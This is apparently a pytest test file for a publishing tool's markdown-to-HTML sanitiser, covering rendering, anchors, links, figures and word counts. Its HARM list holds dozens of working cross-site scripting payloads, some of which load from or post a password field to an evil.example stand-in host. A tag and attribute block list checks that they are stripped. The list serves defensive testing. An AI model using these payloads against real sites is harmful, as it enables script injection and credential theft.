"""Article text becomes HTML that reads well and can do no harm."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pressrun.core.markdown import DEEPEST, Markup, clean, complete, depth, mentions, rendered, to_html, unshown, word_count

MEANT = {
    "Two\n\nparagraphs.": "<p>Two</p>\n<p>paragraphs.</p>\n",
    "*a* **b** ~~c~~ `d`": "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>\n",
    "[a](/b/ 'c')": '<p><a href="/b/" title="c">a</a></p>\n',
    "<https://a.example>": '<p><a href="https://a.example">https://a.example</a></p>\n',
    "- a\n- b": "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n",
    "3. a\n4. b": '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n',
    "> a": "<blockquote>\n<p>a</p>\n</blockquote>\n",
    "```\n<b>\n```": "<pre><code>&lt;b&gt;\n</code></pre>\n",
    "a\\\nb": "<p>a<br>\nb</p>\n",
    "***": "<hr>\n",
    "\"She said 'no'\" -- and left...": "<p>“She said ‘no’” – and left…</p>\n",
    'A 16" shell, 6\'2", (5") "and" *3"*': "<p>A 16” shell, 6’2”, (5”) “and” <em>3”</em></p>\n",
    '他说"《海》': "<p>他说“《海》</p>\n",
    '„Wort“ 16" `5“ `': "<p>„Wort“ 16“ <code>5“ </code></p>\n",
    "# a": '<h2 id="a">a</h2>\n',
    "## a {#b}": '<h2 id="b">a</h2>\n',
    "<h1>a</h1>": '<h2 id="a">a</h2>',
    "H<sub>2</sub>O": "<p>H<sub>2</sub>O</p>\n",
    "- [x] a": '<ul>\n<li><input disabled="" type="checkbox" checked="" aria-label="Done">\na</li>\n</ul>\n',
    "AT&T 1 < 2": "<p>AT&amp;T 1 &lt; 2</p>\n",
}


@pytest.mark.parametrize(("text", "html"), MEANT.items(), ids=MEANT)
def test_markdown_means_what_it_always_meant(text: str, html: str) -> None:
    assert to_html(text) == html


def test_each_table_can_be_moved_by_key_where_it_is_wider_than_the_screen() -> None:
    html = to_html("| a |\n|---|\n| b |\n\nText.\n\n| c |\n|---|\n| d |\n")
    assert re.findall(r'<div class="wide" role="region" tabindex="0" aria-label="([^"]*)"><table>', html) == ["Table 1", "Table 2"]
    assert html.count("</table></div>") == 2


def test_a_table_keeps_its_alignment_without_a_style_attribute() -> None:
    html = to_html("|a|b|c|d|\n|:-|:-:|-:|-|\n|1|2|3|4|")
    assert re.findall(r"<th\b[^>]*>", html) == ['<th class="left">', '<th class="center">', '<th class="right">', "<th>"]
    assert re.findall(r"<td[^>]*>", html) == ['<td class="left">', '<td class="center">', '<td class="right">', "<td>"]


def test_a_footnote_and_its_reference_find_each_other() -> None:
    html = to_html("a[^n]\n\n[^n]: b")
    assert '<a href="#fn-n" id="fn-n-text" role="doc-noteref" aria-label="Note 1">1</a>' in html
    assert '<div class="footnote-definition" id="fn-n">' in html
    assert '<a href="#fn-n-text" role="doc-backlink" aria-label="Note 1: back to the text">1</a>' in html


def test_a_footnote_that_is_named_twice_leads_back_to_where_it_is_first_and_one_that_is_not_named_leads_nowhere() -> None:
    html = to_html("a[^n] b[^n]\n\n[^n]: c\n[^m]: d")
    assert html.count('id="fn-n-text"') == 1
    assert 'id="fn-m"' in html
    assert "fn-m-text" not in html


def test_an_address_leads_there_and_one_of_a_video_that_stands_alone_says_so() -> None:
    assert to_html("https://a.example/x?y=1&z=2") == '<p><a href="https://a.example/x?y=1&amp;z=2">https://a.example/x?y=1&amp;z=2</a></p>\n'
    assert to_html("https://youtu.be/dQw4w9WgXcQ") == '<p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">Watch the video on YouTube</a></p>\n'
    assert to_html("See https://a.example/.") == '<p>See <a href="https://a.example/">https://a.example/</a>.</p>\n'
    assert "<a" not in to_html("`https://a.example/`\n\n    https://b.example/")


def test_what_the_magazine_says_in_a_text_is_marked_as_its_own_language() -> None:
    assert '<span lang="en">Watch the video on Vimeo</span>' in complete(clean(rendered("https://vimeo.com/12345")), tongue="en")


def test_a_pull_quote_is_told_from_a_quotation() -> None:
    assert to_html('<blockquote class="pullquote other">a</blockquote>') == '<blockquote class="pullquote">a</blockquote>'


@pytest.mark.parametrize(
    ("text", "ids"),
    {
        "# The crew, aboard": ["the-crew-aboard"],
        "# One\n\n# One\n\n# One": ["one", "one-1", "one-2"],
        "# *U.S.* `Navy` {#own}": ["own"],
        "# 日本 U.S.": ["日本-us"],
        "# !!": [],
        "# Main": ["main-1"],
        "# a {#main}": ["main-1"],
        "# A\n\n# A\n\n# A 1": ["a", "a-1", "a-1-1"],
        "# A {#b}\n\n# B\n\n# C {#b}": ["b", "b-1", "b-2"],
        "# fn-1\n\n<h2 id='x y'>z</h2>": ["fn_1", "x-y"],
        "<div id=main>a</div>\n\n<div id=own>b</div>": ["main-1", "own"],
        "a[^1 2]\n\n[^1 2]: b\n\n[^1 2]: c": ["fn-1-2-text", "fn-1-2", "fn-1-2-1"],
    }.items(),
)
def test_a_heading_has_the_id_that_other_tools_gave_it(text: str, ids: list[str]) -> None:
    assert re.findall(r'id="([^"]*)"', to_html(text)) == ids


def figure(src: str, alt: str, caption: str) -> str:
    return f"[{src}|{alt}|{caption}]"


ANCHORS = {
    'x<sup><a href="#fn1" id="r1">1</a></sup>\n\n<ol><li id="fn1"><a href="#r1">b</a></li></ol>': (
        '<p>x<sup><a href="#fn1" id="r1">1</a></sup></p>\n<ol><li id="fn1"><a href="#r1">b</a></li></ol>'
    ),
    "<a name=b></a>a": '<p><a id="b"></a>a</p>\n',
    "<a name=b id=c></a><a name=''></a>": '<p><a id="c"></a><a></a></p>\n',
    "<span id=b></span><span id='b'></span>": '<p><span id="b"></span><span id="b-1"></span></p>\n',
    "<p id=b><img src=c.jpg></p>": '<figure id="b">[c.jpg||]</figure>',
    "<p><a id=b href=/c/><img src=d.jpg></a></p>": '<figure><a href="/c/" id="b">[d.jpg||]</a></figure>',
    '<p id="fn-b"><a href="#fn-b">a</a></p>': '<p id="fn_b"><a href="#fn_b">a</a></p>',
    '<div title="a id=">b</div>': '<div title="a id=">b</div>',
    '<h2 title="a id=" id="b">c</h2>': '<h2 title="a id=" id="b">c</h2>',
}


@pytest.mark.parametrize(("text", "html"), ANCHORS.items(), ids=ANCHORS)
def test_a_link_in_the_page_finds_the_place_that_was_named(text: str, html: str) -> None:
    assert to_html(text, picture=figure) == html


def test_neither_a_heading_nor_a_place_has_an_id_of_the_page() -> None:
    templates = Path(__file__).parents[2] / "templates"
    used = {name for path in templates.rglob("*.html") for name in re.findall(r'\bid="([^"]*)"', path.read_text("utf-8"))}
    assert used
    for name in used:
        assert f'id="{name}"' not in to_html(f"# a {{#{name}}}\n\n# {name}\n\n<h2 id={name}>a</h2><p id={name}>b</p><a name={name}></a>")


LINKS = {
    "[a](ref:b)": '<a href="/news/b/">a</a>',
    "[a](ref:b#c)": '<a href="/news/b/#c">a</a>',
    "[a](../2021-10-07-B.md)": '<a href="/news/b/">a</a>',
    "[a](/sea/b.md#c)": '<a href="/news/b/#c">a</a>',
    "[a](b.html)": '<a href="/news/b/">a</a>',
    "[a](b/index.md)": '<a href="/news/b/">a</a>',
    "[a][1]\n\n[1]: b.md": '<a href="/news/b/">a</a>',
    "<a href='b.md' title='x'>a</a>": '<a href="/news/b/" title="x">a</a>',
    "[a](ref:nowhere#c)": "a",
    "[*a*](nowhere.md) b": "<em>a</em> b",
    "[a](/old/b.html)": '<a href="/old/b.html">a</a>',
    "[a](https://elsewhere.example/b.md)": '<a href="https://elsewhere.example/b.md">a</a>',
    "[a](#c)": '<a href="#c">a</a>',
}


@pytest.mark.parametrize(("text", "html"), LINKS.items(), ids=LINKS)
def test_a_link_to_another_article_leads_to_its_address_or_is_its_text(text: str, html: str) -> None:
    assert to_html(text, links={"b": "/news/b/"}) == f"<p>{html}</p>\n"


PICTURES = {
    '![a](b.jpg "c")': "<figure>[b.jpg|a|]<figcaption>c</figcaption></figure>\n",
    "![a](b.jpg)": "<figure>[b.jpg|a|]</figure>\n",
    "[![a](b.jpg)](/c/)": '<figure><a href="/c/">[b.jpg|a|]</a></figure>\n',
    "[![a](b.jpg)](ref:nowhere)": "<figure>[b.jpg|a|]</figure>\n",
    'x ![a](b.jpg "c") y': "<p>x [b.jpg|a|c] y</p>\n",
    "<img src='b.jpg' alt='&lt;a&gt;' onerror=alert(1)>": "[b.jpg|<a>|]",
    "![a](nowhere.jpg)": "<p><em>a</em></p>\n",
    "x ![a&lt;](nowhere.jpg) ![](nowhere.jpg)": "<p>x <em>a&lt;</em> </p>\n",
    "![](nowhere.jpg)": "\n",
    "![a](javascript:x)": "<p><em>a</em></p>\n",
    "![a](data:image/png;base64,AA)": "<p><em>a</em></p>\n",
}


@pytest.mark.parametrize(("text", "html"), PICTURES.items(), ids=PICTURES)
def test_a_picture_is_what_the_magazine_makes_of_it_and_a_figure_where_it_stands_alone(text: str, html: str) -> None:
    assert to_html(text, picture=lambda src, alt, caption: "" if "nowhere" in src else figure(src, alt, caption)) == html


def test_a_video_of_another_site_is_a_link_to_it() -> None:
    html = to_html('<iframe width="1" src="//www.youtube.com/embed/abcdefghijk?rel=0"></iframe>')
    assert html == '<p><a href="https://www.youtube.com/watch?v=abcdefghijk">Watch the video on YouTube</a></p>'
    assert to_html('<iframe src="//elsewhere.example/embed/abcdefghijk">x</iframe>') == ""


def test_what_a_body_says_of_other_things_is_told_once() -> None:
    files = "[g](h.pdf) [g](h.pdf#page=2) [i](https://x.example/j.pdf)"
    html = rendered(f"[a](z.md) [b](ref:a) [c](y/z.md#d) ![e](f.jpg) ![](f.jpg) {files} <script>x</script> `<svg>`")
    assert mentions(clean(html)) == (("a", "z"), ("f.jpg",), ("h.pdf",))
    assert unshown(html) == ("script",)


HARM = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<svg onload=alert(1)><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="//evil.example/x.swf">
<style>body { background: url(//evil.example) }</style>
<p style="background: url(javascript:alert(1))">x</p>
<div onclick=alert(1) onmouseover="alert(1)" class="masthead">x</div>
<a href="javascript:alert(1)">x</a>
<a href=" jAvAsCrIpT:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="x" target="_blank" onfocus=alert(1) autofocus>x</a>
<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<input type="text" onfocus=alert(1) autofocus>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0; url=javascript:alert(1)">
<link rel=stylesheet href="//evil.example/x.css">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><script>alert(1)</script></textarea>
<title><img src=x onerror=alert(1)></title>
<details open ontoggle=alert(1)>x</details>
<video><source onerror="alert(1)"></video>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<a href="x" "><img src=x onerror=alert(1)>">x</a>
<th style="text-align: left; background: url(//evil.example)">x</th>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](<javascript:alert(1)>)
[x]: javascript:alert(1)
[x](ref:javascript:alert(1))
[x](ref:"onmouseover="alert(1))
[x](b.md#"onmouseover="alert(1))
<h2 id='"><script>alert(1)</script>'>x</h2>
## <img src=x onerror=alert(1)> {#x"onclick="alert(1)}
<a name='"onclick="alert(1)' id="x' onclick=alert(1)">x</a>
<p title="x id=" id=" onclick=alert(1) x=">x</p>
<a title="<p><img src=x></p>" href="b.md">x</a>
<p title="</h2><img src=x onerror=alert(1)>"></p>
<iframe src="//www.youtube.com/embed/abcdefghijk&quot;onload=&quot;alert(1)"></iframe>
![x](javascript:alert(1))
![x"onerror="alert(1)](x)
[x](x "\\" onmouseover=alert(1) x=\\"")
<javascript:alert(1)>
`<script>alert(1)</script>`
""".splitlines()

HARMLESS = re.compile(r"(https?://|mailto:|tel:|[/#]|[^:]*$)", re.IGNORECASE)
NEVER = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "button",
    "base",
    "meta",
    "link",
    "template",
    "img",
    "video",
    "source",
    "h1",
}


class Elements(HTMLParser):
    """The start tags of some HTML, each with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def can_do_no_harm(html: str) -> bool:
    for tag, attributes in Elements(html).found:
        if tag in NEVER or any(name.startswith("on") or name in ("style", "srcdoc", "target", "autofocus", "name") for name in attributes):
            return False
        if tag == "input" and attributes.get("type", "checkbox") != "checkbox":
            return False
        if not all(HARMLESS.match((attributes.get(name) or "").strip()) for name in ("href", "cite", "src", "action", "formaction")):
            return False
    return True


@pytest.mark.parametrize("text", HARM)
@pytest.mark.parametrize("markup", ["markdown", "html"])
def test_harm_is_taken_out(text: str, markup: Markup) -> None:
    assert can_do_no_harm(to_html(text, markup, {"b": "/b/"}))
    assert can_do_no_harm(to_html(f"A paragraph with {text} in it.", markup, {"b": "/b/"}))


def test_a_script_leaves_no_text_behind() -> None:
    assert to_html("a <script>alert(1)</script> b") == "<p>a  b</p>\n"


@given(
    st.lists(st.sampled_from([*HARM, "**", "`", "\n\n", "> ", '"', "'", "<", ">", "&lt;", "|a|\n|-|\n", "[", "](", ")", "-->"]), max_size=8).map(
        "".join
    )
)
def test_harm_is_taken_out_however_it_is_put_together(text: str) -> None:
    assert can_do_no_harm(to_html(text, links={"b": "/b/"}))
    assert can_do_no_harm(to_html(text, "html", {"b": "/b/"}))


@given(st.text())
def test_any_text_at_all_becomes_html(text: str) -> None:
    assert can_do_no_harm(to_html(text))
    assert can_do_no_harm(to_html(text, "html"))


LONG = {
    "links that never close": "[" * 50_000,
    "links in links": "[a](" * 50_000,
    "emphasis that never closes": "*a **b " * 25_000,
    "emphasis over emphasis": "a**b" * 25_000 + "c* " * 25_000,
    "backticks of every length": "".join("`" * n + " " for n in range(1500)),
    "a wide table": "|" + "a|" * 20_000 + "\n|" + "-|" * 20_000,
    "an attribute after the other": "<a " + "x " * 50_000 + ">",
    "comments that never close": "<!--" * 50_000,
    "footnotes without end": "[^a]" * 50_000 + "\n\n[^a]: b",
    "ampersands": "&" * 100_000,
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG)
def test_a_pathological_text_takes_no_more_than_its_share(text: str) -> None:
    assert len(to_html(text)) < 30 * len(text)
    assert len(to_html(text, "html")) < 30 * len(text)


@pytest.mark.parametrize("opened", ["> ", "<div>", "<b>", "<b>x</p>", "<section></b>", "</div><div><table>"])
def test_nesting_is_measured_before_anything_parses_it(opened: str) -> None:
    assert depth(rendered(opened * 5_000)) > DEEPEST


@pytest.mark.parametrize("text", ["<p>a\n\n" * 5_000, "- a\n" * 5_000, "<br>" * 5_000, "<b>a</b>" * 5_000, "| a |\n| - |\n" + "| b |\n" * 5_000])
def test_a_long_text_is_not_a_deep_one(text: str) -> None:
    assert depth(rendered(text)) <= 4


def test_only_words_are_counted() -> None:
    assert word_count(to_html("# Two words\n\n- and *three* more")) == 5


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("これは日本語の文章です。\n\n" * 825, 3960),
        ("他说：“你好，世界！”", 4),
        ("The word 海 means sea, and ひらがな is how it is written.", 12),
        ("바다는 넓고 “깊다”", 3),
    ],
    ids=["Japanese", "Chinese", "English with both", "Korean"],
)
def test_a_text_without_spaces_is_counted_by_its_characters(text: str, words: int) -> None:
    assert word_count(to_html(text)) == words
